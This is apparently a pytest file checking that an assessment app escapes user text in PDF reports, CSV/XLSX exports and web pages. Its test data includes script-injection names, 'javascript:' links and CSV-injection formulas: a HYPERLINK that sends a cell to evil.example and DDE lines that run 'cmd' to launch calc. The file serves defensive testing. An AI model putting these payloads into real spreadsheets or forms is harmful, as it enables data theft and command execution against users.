"""User text shows as text everywhere: in the PDF report, in exports and on the pages.

An enterprise can name itself anything, so names and free-text answers that look like
HTML, Markdown or script must come out literally — never as markup, links or formulas.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from assessment import spreadsheets
from assessment.loader import load_questionnaires
from assessment.report import build_pdf, summarise
from assessment.scoring import score_assessment

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_NAME = "<script>alert(1)</script> **粗体** [x](javascript:1)"
# Cells a spreadsheet would run as a formula (OWASP "CSV injection").
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

QSET = load_questionnaires()
CREDIT_CODE = "91140100MA0K000017"


def _answers(name: str = HOSTILE_NAME) -> dict:
    return {
        "profile.name": name,
        "profile.credit_code": CREDIT_CODE,
        "profile.city": "taiyuan",
        "profile.industry": "equipment",
        "profile.production_type": "discrete",
        "profile.employees": 120,
        "profile.revenue": 5000,
    }


def _pdf_text(pdf: bytes, tmp_path: Path) -> str:
    assert shutil.which("pdftotext"), "pdftotext (poppler-utils) is needed to read the PDF"
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True
    )
    return out.stdout.decode("utf-8")


# --- PDF -------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_hostile_enterprise_name_prints_literally_in_the_pdf(lang: str, tmp_path) -> None:
    summary = summarise(score_assessment(_answers(), QSET), QSET)
    assert summary.name == HOSTILE_NAME
    text = _pdf_text(build_pdf(summary, lang=lang, year=2026), tmp_path)
    flat = " ".join(text.split())
    assert HOSTILE_NAME in flat
    # Markdown would have eaten the asterisks and brackets; they are all still there.
    assert flat.count("**") >= 2 and "[x](javascript:1)" in flat


# --- exports ---------------------------------------------------------------------------


def _frame(values: list[str]) -> pd.DataFrame:
    rows = []
    for n, value in enumerate(values):
        answers = _answers(value) | {"profile.gbt4754": value}
        rows.append({spreadsheets.ASSESSMENT_ID: n + 1, spreadsheets.YEAR: 2026, **answers})
    return pd.DataFrame(rows)


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_cells(data: bytes) -> list[list]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_like_text_is_neutralised_in_csv_exports(formula: str) -> None:
    rows = _csv_cells(spreadsheets.export_bytes(_frame([formula]), QSET, kind="csv"))
    header = rows[1]
    cells = dict(zip(header, rows[2], strict=True))
    for column in ("profile.name", "profile.gbt4754"):
        assert cells[column] == "'" + formula
        assert cells[column][0] not in "=+-@\t\r"


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_like_text_is_neutralised_in_xlsx_exports(formula: str) -> None:
    rows = _xlsx_cells(spreadsheets.export_bytes(_frame([formula]), QSET, kind="xlsx"))
    header = [value for value, _ in rows[1]]
    cells = dict(zip(header, rows[2], strict=True))
    for column in ("profile.name", "profile.gbt4754"):
        value, data_type = cells[column]
        assert data_type == "s", f"{column} was written as a formula"
        # XML turns a carriage return into a line feed; the apostrophe is what matters.
        assert value == "'" + formula.replace("\r", "\n")


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_a_list_answer_is_neutralised_in_exports(formula: str) -> None:
    # Stored answers of skipped items are kept unvalidated (answers.validate_answers), so
    # an export can meet any list; the joined cell must be neutralised like any text.
    frame = _frame(["企业"]).assign(**{"profile.four_bases": [[formula, "components"]]})
    rows = _csv_cells(spreadsheets.export_bytes(frame, QSET, kind="csv"))
    cells = dict(zip(rows[1], rows[2], strict=True))
    assert cells["profile.four_bases"][0] not in "=+-@\t\r"


def test_rejected_rows_download_neutralises_uploaded_cells() -> None:
    columns = spreadsheets.required_columns(QSET)
    row = {c: "" for c in columns} | {"year": "2026", "profile.name": FORMULAS[0]}
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(columns)
    writer.writerow([row[c] for c in columns])
    preview = spreadsheets.validate_upload(upload.getvalue().encode(), "bad.csv", QSET)
    assert len(preview.rejected) == 1
    rows = _csv_cells(spreadsheets.rejected_bytes(preview))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["profile.name"] == "'" + FORMULAS[0]


def test_neutralised_export_reimports_the_literal_text() -> None:
    frame = _frame([FORMULAS[0]])
    data = spreadsheets.export_bytes(frame, QSET, kind="csv")
    preview = spreadsheets.validate_upload(data, "roundtrip.csv", QSET)
    names = [r.answers["profile.name"] for r in preview.valid] + [
        spreadsheets.restore(r.cells["profile.name"]) for r in preview.rejected
    ]
    assert names == [FORMULAS[0]]


# --- pages ------------------------------------------------------------------------------

MARKDOWN_ELEMENTS = ("markdown", "caption", "error", "warning", "info", "success", "toast")


@pytest.fixture
def app_env(tmp_path, monkeypatch):
    """The app on a fresh SQLite database and the small test questionnaires."""
    sys.path.insert(0, str(ROOT / "tests" / "app"))
    try:
        import apphelpers
    finally:
        sys.path.remove(str(ROOT / "tests" / "app"))
    from assessment.storage import make_engine, upgrade

    url = f"sqlite:///{tmp_path / 'app.db'}"
    engine = make_engine(url)
    upgrade(engine)
    engine.dispose()
    monkeypatch.setenv("DATABASE_URL", url)
    monkeypatch.setenv("ASSESSMENT_QUESTIONNAIRES", apphelpers.SKIP_SET)
    return apphelpers


def _markdown_bodies(at) -> list[str]:
    return [str(el.value) for kind in MARKDOWN_ELEMENTS for el in at.get(kind)]


def test_a_hostile_name_shows_as_text_on_the_results_page(app_env) -> None:
    h = app_env
    sections = [
        (sid, answers | {"profile.name": HOSTILE_NAME} if sid == "profile.basic" else answers)
        for sid, answers in h.SECTIONS
    ]
    at = h.complete(h.new_app("zh"), sections)
    h.submit(at)
    banners = [el.proto.body for el in at.get("html")]
    assert any("&lt;script&gt;alert(1)&lt;/script&gt; **粗体** [x](javascript:1)" in b
               for b in banners), banners  # fmt: skip
    assert not any("<script>" in b for b in banners)
    for body in _markdown_bodies(at):
        assert "[x](javascript:1)" not in body and "<script>" not in body, body


def test_a_typed_value_in_an_error_message_is_not_markdown(app_env) -> None:
    # The credit-code error repeats what was typed; st.error renders Markdown, so the
    # typed text must reach it escaped (ui.layout.plain) or be shown with st.text.
    h = app_env
    at = h.start(h.new_app("en"))
    typed = "[X](HTTPS://EVIL.EXAMPLE)**B**"  # upper case: credit codes are upper-cased
    h.fill(at, h.PROFILE_BASIC | {"profile.credit_code": typed})
    h.save(at)
    shown = h.messages_under(at, "profile.credit_code")
    assert shown, h.errors(at)
    for body in shown:
        assert "[X](HTTPS://EVIL.EXAMPLE)" not in body and "**B**" not in body, body
